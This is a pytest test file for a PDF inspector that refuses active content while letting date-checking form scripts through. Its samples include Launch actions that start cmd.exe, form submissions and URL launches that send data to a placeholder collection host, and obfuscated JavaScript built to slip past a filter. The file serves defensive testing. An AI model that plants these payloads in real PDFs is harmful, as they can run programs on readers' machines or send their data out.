"""What a document would do (F12, F13), and the scripts of licensed forms, which only check what is typed."""

import pytest

from coverwatch.reading.inspect import Reason, inspect
from coverwatch.reading.safety.scripts import declared_names, only_checks_what_is_typed
from tests.bad_input.pdf_files import a_document, a_pdf, a_stream, in_object_stream, written

FIELD = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(date)/Rect[10 10 90 30]/DA(/F1 9 Tf)/AA<<%b>>>>"
CHECKS_A_DATE = r"""function DateCheck(event) { var form = /^\d{1,2}\/\d{1,2}\/\d{4}$/;
  if (event.value != "" && !form.test(event.value)) { event.rc = false; app.alert("MM/DD/YYYY, please."); } };"""


@pytest.mark.parametrize(
    "action",
    [
        b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        b"<</S/JavaScript/JS<6170702e616c657274283129>>>",
        b"<</S/JavaScript/JS 6 0 R>>",
        b"<</S/Java#53cript/#4aS(app.alert\\(1\\))>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</S/L#61unch/F(cmd.exe)>>",
        b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>",
        b"<</S/SubmitForm/F(https://collect.example)>>",
        b"<</S/ImportData/F(data.fdf)>>",
        b"<</S/URI/URI(https://collect.example)>>",
    ],
)
@pytest.mark.parametrize(
    "place", ["at opening", "on the page", "in an object stream", "as an object of its own", "left by an older revision"]
)
def test_an_action_that_runs_by_itself_is_refused(action: bytes, place: str) -> None:
    script = a_stream(b"this.exportDataObject({cName: 'x', nLaunch: 2})")
    objects = a_document(catalog=b"/OpenAction " + action, object_6=script)
    content = {
        "at opening": written(objects),
        "on the page": a_pdf(page=b"/AA<</O %b>>" % action, object_6=script),
        "in an object stream": in_object_stream(objects),
        "as an object of its own": a_pdf(catalog=b"/OpenAction 7 0 R", object_6=script, object_7=action),
        "left by an older revision": written(objects).replace(b"trailer", b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj trailer", 1),
    }[place]

    assert reason(content) == Reason.ACTIVE_CONTENT


@pytest.mark.parametrize("action", [b"<</S/Launch/F(cmd.exe)>>", b"<</S/SubmitForm/F(https://collect.example)>>"])
def test_an_action_on_a_click_is_refused_where_it_leaves_the_document(action: bytes) -> None:
    link = b"<</Type/Annot/Subtype/Link/Rect[10 10 90 30]/A %b>>" % action

    assert reason(a_pdf(page=b"/Annots[6 0 R]", object_6=link)) == Reason.ACTIVE_CONTENT


def test_a_document_may_open_at_a_page_or_in_the_print_dialogue() -> None:
    assert reason(a_pdf(catalog=b"/OpenAction[3 0 R/Fit]")) is None
    assert reason(a_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")) is None
    assert reason(a_pdf(catalog=b"/OpenAction<</S/Named/N/Print>>")) is None


def test_words_on_the_page_are_no_actions() -> None:
    assert reason(a_pdf(b"BT /F1 9 Tf (/Launch /JS /SubmitForm) Tj ET")) is None
    assert reason(a_pdf(catalog=b"/Title(To /Launch or to submit)")) is None


def test_a_form_that_checks_what_is_typed_is_read() -> None:
    """As on licensed forms: functions are defined at opening, fields call them."""
    at_opening = b"/OpenAction<</S/JavaScript/JS 7 0 R>>/AcroForm<</Fields[6 0 R]>>"
    field = FIELD % b'/V<</S/JavaScript/JS(DateCheck\\(event\\);)>>/F<</S/JavaScript/JS(AFDate_FormatEx\\("mm/dd/yyyy"\\);)>>'

    inspection = inspect(a_pdf(catalog=at_opening, page=b"/Annots[6 0 R]", object_6=field, object_7=a_stream(CHECKS_A_DATE.encode())))

    assert inspection.refusal is None
    assert inspection.needs_flattening


def test_a_field_may_not_do_more_than_check() -> None:
    field = FIELD % b"/V<</S/JavaScript/JS(this.mailDoc\\(true\\);)>>"

    assert reason(a_pdf(page=b"/Annots[6 0 R]", object_6=field)) == Reason.ACTIVE_CONTENT


def test_a_check_may_not_run_when_the_pointer_passes() -> None:
    field = FIELD % b"/E<</S/JavaScript/JS(app.alert\\(event.value\\);)>>"

    assert reason(a_pdf(page=b"/Annots[6 0 R]", object_6=field)) == Reason.ACTIVE_CONTENT


def test_a_script_that_viewers_may_see_and_we_do_not_is_refused() -> None:
    """Two values for one key: which one counts, each viewer decides for itself."""
    field = FIELD % b"/V<</S/JavaScript/JS(app.launchURL\\(event.value\\);)/JS(event.rc = true;)>>"

    assert reason(a_pdf(page=b"/Annots[6 0 R]", object_6=field)) == Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "script",
    [
        "event.value = event.value.toUpperCase();",
        'if (event.change.length > 0 && event.change != "Y") event.change = "";',
        'event.rc = /^\\d{2}[/-]\\d{2}$/.test(event.value); // a pattern, "not" a division',
        'AFNumber_Format(2, 0, 0, 0, "$", true);',
        'var total = 0; for (var i = 0; i < 3; i++) { total = total + Number(this.getField("limit").value); } event.value = total / 2;',
        'app.alert({cMsg: "MM/DD/YYYY", nIcon: 1});',
        CHECKS_A_DATE + "\0",
    ],
)
def test_scripts_that_check(script: str) -> None:
    assert only_checks_what_is_typed(script, declared_names([script]), runs_by_itself=False)


@pytest.mark.parametrize(
    "script",
    [
        "app.launchURL('https://collect.example')",
        "submitForm('https://collect.example')",
        "var f = submitForm; f('https://collect.example')",
        "'x'.replace(/x/, submitForm)",
        "function g(h) { h('x') } g(getURL)",
        "var submitForm; submitForm('https://collect.example')",
        "this['sub' + 'mitForm']('https://collect.example')",
        "app['launch' + 'URL']('https://collect.example')",
        "[].constructor.constructor('return 1')()",
        "eval(event.value)",
        "\\u0065val(event.value)",
        "unescape('%61')",
        "this.getField('a').submitName",
        "event.target.doc.mailDoc(true)",
        "util.printf('%5000f', 1)",
        "`${app.launchURL('x')}`",
        "event.value\0app.launchURL('x')",
        "1 /2; app.launchURL('x'); 3/ 4",
        "a = 1 /* x */ /app.launchURL/i",
        "x = {} / app.launchURL('x') / 1",
        "a++ / app.launchURL('x') / 1",
        "<!-- /*\n app.launchURL('x') /* */",
        "// checks\u2028 app.launchURL('x')",
        "x" * 300_000,
    ],
)
def test_scripts_that_do_more_than_check(script: str) -> None:
    assert not only_checks_what_is_typed(script, declared_names([script]), runs_by_itself=False)


@pytest.mark.parametrize(
    ("script", "may_run"),
    [
        (CHECKS_A_DATE, True),
        ("var limit = 3; " + CHECKS_A_DATE, True),
        ("", True),
        ("app.alert('hello')", False),
        (CHECKS_A_DATE + " DateCheck(event)", False),
        ("function a() { if (1) { return 1 } ", False),
        ("(function () { app.alert('hello') })()", False),
    ],
)
def test_what_runs_by_itself_may_only_define(script: str, may_run: bool) -> None:
    assert only_checks_what_is_typed(script, declared_names([script]), runs_by_itself=True) == may_run


def reason(content: bytes) -> Reason | None:
    refusal = inspect(content).refusal
    return refusal.reason if refusal else None
